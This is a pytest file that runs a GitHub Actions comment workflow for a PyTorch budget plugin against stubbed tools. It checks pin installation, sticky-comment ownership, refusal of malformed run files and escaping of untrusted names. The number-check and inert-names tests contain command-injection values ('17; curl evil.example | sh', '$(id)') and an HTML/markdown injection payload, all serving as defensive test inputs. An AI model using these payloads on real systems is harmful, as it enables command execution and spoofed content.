"""The comment job of ``examples/github/convbudget-comment.yml``, run for real, without GitHub.

``test_workflows.py`` reads the workflows; here the comment job's ``run:``
steps run with bash, in order and under GitHub's own shell options, in a
folder laid out as the job's workspace after its ``uses:`` steps: the
default branch's ``pyproject.toml`` (the checkout) and the pull request's
artifact (its run file and number). ``gh`` is a stub that records its
arguments, hands out main's baseline artifact and keeps what would be
posted. ``python`` is this interpreter, except that ``pip`` is recorded,
not run, and torch, pytest and jinja2 cannot be imported: the job installs
the pinned release with ``--no-deps``, so its ``diff`` must render without
them. The run files are the examples project's
(``tests/data/examples_outputs/``): main's baseline, and the branch that grew
a model past its budget.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from test_workflows import (
    BASELINE,
    COMMENT,
    PR,
    artifact_names,
    diff_command,
    load,
    only_job,
    pr_number_file,
    project_version,
    pytest_arguments,
    uses,
)

from pytest_convbudget.render.markdown import COMMENT_MARKER
from pytest_convbudget.words.vocabulary import DEFAULT_MAX_FILE_SIZE

pytestmark = pytest.mark.skipif(sys.platform == "win32" or shutil.which("bash") is None,
                                reason="the job's steps are bash scripts run on ubuntu-latest")

OUTPUTS = Path(__file__).resolve().parent / "data" / "examples_outputs"
EXAMPLES_PYPROJECT = Path(__file__).resolve().parent.parent / "examples" / "pyproject.toml"
REPOSITORY = "octo/models"
PR_NUMBER = "17"
HEAD_SHA = "0123456789abcdef0123456789abcdef01234567"
BOT = "github-actions[bot]"
# What the comment job does not install: none of it may be needed to render markdown.
BLOCKED = ("torch", "pytest", "_pytest", "pluggy", "jinja2", "markupsafe", "numpy", "yaml") + (
    ("tomli",) if sys.version_info >= (3, 11) else ()
)

SITECUSTOMIZE = f"""\
import sys

for name in {BLOCKED!r}:
    sys.modules[name] = None  # "import torch" raises ImportError, as where it is not installed
"""

PYTHON_SHIM = """\
#!/bin/sh
# python, as the comment job has it: pip is recorded (the pin is checked), everything else runs.
if [ "$1" = "-m" ] && [ "$2" = "pip" ]; then
  shift 2
  echo "$*" >> "$GH_STUB/pip.log"
  exit 0
fi
exec "{python}" "$@"
"""

GH_STUB = '''\
"""gh, as far as the comment job uses it: every call is recorded in calls.jsonl."""
import json
import os
import shutil
import subprocess
import sys

state = os.environ["GH_STUB"]
args = sys.argv[1:]
with open(os.path.join(state, "calls.jsonl"), "a", encoding="utf-8") as log:
    log.write(json.dumps(args) + "\\n")


def value(name):
    return args[args.index(name) + 1]


if args[:2] == ["run", "list"]:
    print(os.environ.get("STUB_BASELINE_RUN", ""))
elif args[:2] == ["run", "download"]:
    artifact = os.path.join(state, "artifacts", value("--name"))
    if args[2] != os.environ.get("STUB_BASELINE_RUN") or not os.path.isdir(artifact):
        sys.exit("no valid artifacts found to download")
    shutil.copytree(artifact, value("--dir"), dirs_exist_ok=True)
elif args[0] == "api":
    endpoint = next(word for word in args if word.startswith("repos/"))
    bodies = [word[len("body=@"):] for word in args if word.startswith("body=@")]
    if bodies:
        with open(os.path.join(state, "posted.jsonl"), "a", encoding="utf-8") as posted:
            with open(bodies[0], encoding="utf-8") as body:
                posted.write(json.dumps({"args": args, "body": body.read()}) + "\\n")
        print("{}")
    elif "/pulls/" in endpoint:
        print(os.environ["STUB_PR_SHA"])
    elif endpoint.endswith("/comments"):
        with open(os.path.join(state, "comments.json"), encoding="utf-8") as comments:
            listed = json.load(comments)
        if listed:  # the filter is the workflow's own, run by jq
            done = subprocess.run(["jq", "-r", value("--jq")], input=json.dumps(listed), text=True,
                                  capture_output=True, check=True)
            sys.stdout.write(done.stdout)
    else:
        sys.exit(f"gh stub: unexpected endpoint {endpoint}")
else:
    sys.exit(f"gh stub: unexpected command {args}")
'''


def trusted_pyproject(max_increase: str | None) -> str:
    """The default branch's pyproject.toml: the examples project's, with ``max_increase`` set in its table."""
    text = EXAMPLES_PYPROJECT.read_text(encoding="utf-8")
    if max_increase is None:
        return text
    assert "[tool.convbudget]\n" in text
    return text.replace("[tool.convbudget]\n", f"[tool.convbudget]\nmax_increase = {max_increase}\n", 1)


def golden_markdown(name: str) -> str:
    """A comment the examples project rendered: a file as written, or the stdout of a ``diff-*.txt``."""
    text = (OUTPUTS / name).read_text(encoding="utf-8")
    if name.startswith("diff-"):
        text = text.split("--- stdout\n", 1)[1].split("--- stderr\n", 1)[0]
    return text


# max_increase = 5 in the trusted table: the same options as the plugin run that wrote branch-comment.md
# (--conv-max-increase=5). With none: as diff-markdown.txt, diff with no max_increase.
CONFIGS = {"max_increase 5": ("5", "branch-comment.md"), "no max_increase": (None, "diff-markdown.txt")}


@dataclass
class StepRun:
    name: str
    returncode: int
    stdout: str
    stderr: str


class Job:
    """The comment job's workspace, its tools (``python`` and the ``gh`` stub), and its run."""

    def __init__(self, root: Path) -> None:
        self.workflow = load(COMMENT)
        self.workspace = root / "workspace"
        self.state = root / "gh"
        self.bin = root / "bin"
        for folder in (self.workspace, self.state, self.bin, root / "site"):
            folder.mkdir()
        (root / "site" / "sitecustomize.py").write_text(SITECUSTOMIZE, encoding="utf-8")
        self._tool("python", PYTHON_SHIM.format(python=sys.executable))
        (self.state / "gh.py").write_text(GH_STUB, encoding="utf-8")
        self._tool("gh", f'#!/bin/sh\nexec "{sys.executable}" "{self.state / "gh.py"}" "$@"\n')
        (self.state / "comments.json").write_text("[]", encoding="utf-8")
        self.env = {
            "PATH": f"{self.bin}:/usr/bin:/bin",
            "HOME": str(root),
            "LANG": "C.UTF-8",
            "PYTHONPATH": str(root / "site"),
            "PYTHONDONTWRITEBYTECODE": "1",
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_WORKSPACE": str(self.workspace),
            "GITHUB_ENV": str(self.state / "github_env"),
            "GH_STUB": str(self.state),
            "STUB_PR_SHA": HEAD_SHA,
            "STUB_BASELINE_RUN": "4242",
            **{key: str(value) for key, value in self.workflow.get("env", {}).items()},
        }
        self.expressions = {
            "github.token": "stub-token",
            "github.event.workflow_run.head_sha": HEAD_SHA,
            "github.event.workflow_run.id": "4343",
        }

    def _tool(self, name: str, text: str) -> None:
        path = self.bin / name
        path.write_text(text, encoding="utf-8")
        path.chmod(0o755)

    def lay_out(self, *, pyproject: str, run_file: bytes | None, number: str = PR_NUMBER,
                baseline: bytes | None = None) -> None:
        """The workspace after the job's actions: the checkout's pyproject.toml at the root, the pull
        request's artifact where download-artifact puts it, and main's baseline artifact for ``gh``,
        each file where the workflows' paths say (see ``test_workflows.test_files_line_up_between_the_jobs``)."""
        (self.workspace / "pyproject.toml").write_text(pyproject, encoding="utf-8")
        pr_workflow = load(PR)
        (upload,) = uses(pr_workflow, "actions/upload-artifact")
        inside = artifact_names(upload["with"]["path"].split())
        (gate,) = pytest_arguments(pr_workflow)
        (run_path,) = [word.split("=", 1)[1] for word in gate if word.startswith("--conv-run-file=")]
        (download,) = uses(self.workflow, "actions/download-artifact")
        folder = self.workspace / download["with"]["path"]
        folder.mkdir()
        if run_file is not None:
            (folder / inside[run_path]).write_bytes(run_file)
        (folder / inside[pr_number_file(pr_workflow)]).write_text(number + "\n", encoding="utf-8")

        (baseline_upload,) = uses(load(BASELINE), "actions/upload-artifact")
        path = baseline_upload["with"]["path"]
        artifact = self.state / "artifacts" / baseline_upload["with"]["name"]
        artifact.mkdir(parents=True)
        (artifact / artifact_names([path])[path]).write_bytes(
            baseline if baseline is not None else (OUTPUTS / "baseline.json").read_bytes()
        )

    def _expand(self, text: str) -> str:
        return re.sub(r"\$\{\{\s*(.*?)\s*\}\}", lambda m: self.expressions[m.group(1)], text)

    def run(self) -> list[StepRun]:
        """Each ``run:`` step in order, as GitHub runs it (``bash --noprofile --norc -eo pipefail``);
        after a failure only ``always()`` steps run. ``$GITHUB_ENV`` carries values to later steps."""
        done: list[StepRun] = []
        failed = False
        for index, step in enumerate(only_job(self.workflow)["steps"]):
            if "run" not in step:
                continue  # an action: its work is laid out beforehand
            condition = step.get("if")
            assert condition in (None, "always()"), f"the harness cannot evaluate if: {condition}"
            if failed and condition is None:
                continue
            env = {**self.env, **self._github_env(),
                   **{key: self._expand(str(value)) for key, value in step.get("env", {}).items()}}
            script = self.state / f"step-{index}.sh"
            script.write_text(step["run"], encoding="utf-8")
            result = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], check=False,
                                    cwd=self.workspace, env=env, capture_output=True, text=True, timeout=120)
            done.append(StepRun(step.get("name", step["run"].split()[0]), result.returncode,
                                result.stdout, result.stderr))
            failed = failed or result.returncode != 0
        return done

    def _github_env(self) -> dict[str, str]:
        path = Path(self.env["GITHUB_ENV"])
        lines = path.read_text(encoding="utf-8").splitlines() if path.exists() else []
        return dict(line.split("=", 1) for line in lines)

    def calls(self) -> list[list[str]]:
        path = self.state / "calls.jsonl"
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if path.exists() else []

    def posted(self) -> list[dict[str, Any]]:
        path = self.state / "posted.jsonl"
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if path.exists() else []

    def pip(self) -> list[str]:
        path = self.state / "pip.log"
        return path.read_text(encoding="utf-8").splitlines() if path.exists() else []

    def python(self, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
        """The job's ``python`` (torch, pytest and jinja2 not importable), in the workspace."""
        return subprocess.run([str(self.bin / "python"), *args], check=False, cwd=cwd or self.workspace,
                              env=self.env, capture_output=True, text=True, timeout=120)


def step(runs: list[StepRun], words: str) -> StepRun:
    (found,) = [run for run in runs if words in run.name]
    return found


@pytest.fixture
def job(tmp_path: Path) -> Job:
    return Job(tmp_path)


def branch_run() -> bytes:
    return (OUTPUTS / "branch-run.json").read_bytes()


def test_the_jobs_python_has_no_torch_pytest_or_jinja2(job: Job) -> None:
    """The harness's own check: what the comment job does not install cannot be imported here either,
    while the package itself can."""
    for name in ("torch", "pytest", "jinja2"):
        done = job.python("-c", f"import {name}")
        assert done.returncode == 1 and f"import of {name} halted" in done.stderr, (name, done.stderr)
    done = job.python("-c", "import sys, pytest_convbudget.cli.diff\n"
                      "print([name for name in ('torch', 'pytest', 'jinja2') if sys.modules.get(name)])")
    assert (done.returncode, done.stdout) == (0, "[]\n"), done.stderr


@pytest.mark.parametrize("config", sorted(CONFIGS))
def test_the_diff_line_renders_the_examples_comment(job: Job, config: str) -> None:
    """The workflow's own ``diff`` line, run in the workspace: exit 1 (the branch grew UNet3D past its
    budget), a comment that starts with the marker and is, byte for byte, what the plugin's run with the
    same options wrote (``branch-comment.md``), or what ``diff`` wrote with no max_increase."""
    max_increase, golden = CONFIGS[config]
    job.lay_out(pyproject=trusted_pyproject(max_increase), run_file=branch_run())
    arguments, output = diff_command(job.workflow)
    baseline_folder = job.workspace / Path(arguments[1]).parent
    shutil.copytree(job.state / "artifacts" / "convbudget-baseline", baseline_folder)

    done = job.python("-m", "pytest_convbudget", *arguments)
    (job.workspace / output).write_text(done.stdout, encoding="utf-8")

    assert done.returncode == 1, done.stderr
    assert done.stderr == ""
    comment = (job.workspace / output).read_text(encoding="utf-8")
    assert comment.startswith(COMMENT_MARKER + "\n")
    assert comment == golden_markdown(golden)


def test_a_regressed_pull_request_gets_the_comment(job: Job) -> None:
    """The whole job: the pin installed alone, the number checked, main's baseline fetched, diff
    exits 1 and the comment (the examples' golden) is posted as a new comment on pull request 17."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run())
    runs = job.run()

    assert [run.returncode for run in runs] == [0] * len(runs), runs
    assert job.pip() == [f"install --no-deps pytest-convbudget=={project_version()}"]
    (posted,) = job.posted()
    assert posted["args"] == ["api", f"repos/{REPOSITORY}/issues/{PR_NUMBER}/comments", "-F", "body=@comment.md"]
    assert posted["body"] == golden_markdown("branch-comment.md")
    assert ["api", f"repos/{REPOSITORY}/pulls/{PR_NUMBER}", "--jq", ".head.sha"] in job.calls()
    (download,) = [call for call in job.calls() if call[:2] == ["run", "download"]]
    assert download[2] == "4242"


@pytest.mark.skipif(shutil.which("jq") is None, reason="the sticky comment's filter is run by jq")
def test_the_bots_own_comment_is_updated_not_a_lookalike(job: Job) -> None:
    """Anyone can post a comment that starts with the marker; the job edits only its own."""
    (job.state / "comments.json").write_text(json.dumps([
        {"id": 1, "user": {"login": "someone"}, "body": "great work"},
        {"id": 2, "user": {"login": "mallory"}, "body": f"{COMMENT_MARKER}\n✅ all good"},
        {"id": 3, "user": {"login": BOT}, "body": f"{COMMENT_MARKER}\n❌ an older run"},
    ]), encoding="utf-8")
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run())
    runs = job.run()

    assert all(run.returncode == 0 for run in runs), runs
    (posted,) = job.posted()
    assert posted["args"] == ["api", "--method", "PATCH", f"repos/{REPOSITORY}/issues/comments/3",
                              "-F", "body=@comment.md"]
    assert posted["body"] == golden_markdown("branch-comment.md")


def _corrupt(kind: str) -> bytes:
    text = branch_run().decode("utf-8")
    if kind == "truncated":
        return text[: len(text) // 2].encode("utf-8")
    data = json.loads(text)
    if kind == "another schema":
        data["schema"] = "my-own/run"
    elif kind == "a count as text":
        data["measurements"][0]["cost"]["flops"] = "lots"
    elif kind == "not a list":
        data["measurements"] = {"a": 1}
    return json.dumps(data).encode("utf-8")


@pytest.mark.parametrize("kind", ["truncated", "another schema", "a count as text", "not a list"])
def test_a_refused_run_file_posts_nothing_and_fails_the_job(job: Job, kind: str) -> None:
    """diff exits 2 on a run file it refuses: the render step fails with diff's one-line error in
    the log, no comment file is left, and the post step never runs."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=_corrupt(kind))
    runs = job.run()

    render = step(runs, "Render")
    assert render.returncode == 2
    errors = [line for line in render.stderr.splitlines() if line]
    assert len(errors) == 1 and errors[0].startswith("convbudget diff: error: pr/convbudget-head.json: "), errors
    assert "exited 2: no comment posted" in render.stdout
    assert runs[-1] is render, "no step runs after the refusal"
    assert job.posted() == []
    assert not any(call[0] == "api" and "comments" in " ".join(call) for call in job.calls())
    assert not (job.workspace / "comment.md").exists()


def test_a_run_file_over_the_size_limit_posts_nothing(job: Job) -> None:
    """A run file bigger than the limit (the default: no max_file_size in the trusted table; a
    sparse file here) is refused unread, like a malformed one."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run())
    with (job.workspace / "pr" / "convbudget-head.json").open("r+b") as stream:
        stream.truncate(DEFAULT_MAX_FILE_SIZE + 1)
    runs = job.run()

    render = step(runs, "Render")
    assert render.returncode == 2 and runs[-1] is render
    assert render.stderr.startswith("convbudget diff: error: pr/convbudget-head.json: ")
    assert render.stderr.count("\n") == 1
    assert job.posted() == []


@pytest.mark.parametrize("number", ["17; curl evil.example | sh", "", "17\n18", "-1", "$(id)"])
def test_a_bad_pull_request_number_stops_the_job_first(job: Job, number: str) -> None:
    """The number is checked before anything reads the run file or asks GitHub about it."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run(), number=number)
    runs = job.run()

    assert runs[-1].name == "Check the pull request number" and runs[-1].returncode == 1
    assert "bad pull request number" in runs[-1].stdout
    assert job.calls() == [] and job.posted() == []


def test_a_number_not_at_the_tested_commit_stops_the_job(job: Job) -> None:
    """A run file uploaded for pull request 17 by a run of another commit (another pull request's
    run naming 17, or 17 pushed again since) is not posted on 17."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run())
    job.env["STUB_PR_SHA"] = "f" * 40
    runs = job.run()

    assert runs[-1].name == "Check the pull request number" and runs[-1].returncode == 1
    assert f"PR #{PR_NUMBER} is not at {HEAD_SHA}" in runs[-1].stdout
    assert job.posted() == []


@pytest.mark.parametrize("missing", ["baseline", "run file"])
def test_nothing_to_compare_posts_nothing_quietly(job: Job, missing: str) -> None:
    """No baseline on main yet, or a PR job that stopped before measuring: the PR job already fails
    (that is the check that matters); the comment job says why in its log and posts nothing."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=None if missing == "run file" else branch_run())
    if missing == "baseline":
        job.env["STUB_BASELINE_RUN"] = ""
    runs = job.run()

    assert all(run.returncode == 0 for run in runs), runs
    assert ("no baseline from main" if missing == "baseline" else "no run file") in step(runs, "Render").stdout
    assert "nothing to post" in runs[-1].stdout
    assert job.posted() == []


HOSTILE_TEST = "test_examples.py::test_unet3d_volume[<img src=x onerror=alert(1)> [approve](https://evil.example) @octocat]"
HOSTILE_NAME = "UNet3D`|\n\n## ✅ merged, all good\n<!-- pytest-convbudget -->"
PAYLOADS = ("<img", "](https://evil", "@octocat", "## ✅", "<!--")


def _hostile(source: str) -> bytes:
    data = json.loads((OUTPUTS / source).read_text(encoding="utf-8"))
    for measurement in data["measurements"]:
        if measurement["test_id"] == "test_examples.py::test_unet3d_volume":
            measurement["test_id"], measurement["name"] = HOSTILE_TEST, HOSTILE_NAME
    return json.dumps(data).encode("utf-8")


def test_hostile_names_stay_inert_in_the_posted_comment(job: Job) -> None:
    """A run file is the pull request's to write, names included: outside code (a markdown code span,
    or an escaped ``<code>`` inside the HTML of ``<summary>``), no part of a name may reach the comment
    as markup (an image, a link, a mention, a heading, a second marker), and no name may add a line."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=_hostile("branch-run.json"),
                baseline=_hostile("baseline.json"))
    runs = job.run()

    assert all(run.returncode == 0 for run in runs), runs
    (posted,) = job.posted()
    body = posted["body"]
    assert body.startswith(COMMENT_MARKER + "\n")
    assert len(body.splitlines()) == len(golden_markdown("branch-comment.md").splitlines())
    for line in body.splitlines()[1:]:
        outside = re.sub(r"`[^`]*`|<code>[^<]*</code>", "", line)
        assert not [payload for payload in PAYLOADS if payload in outside], line
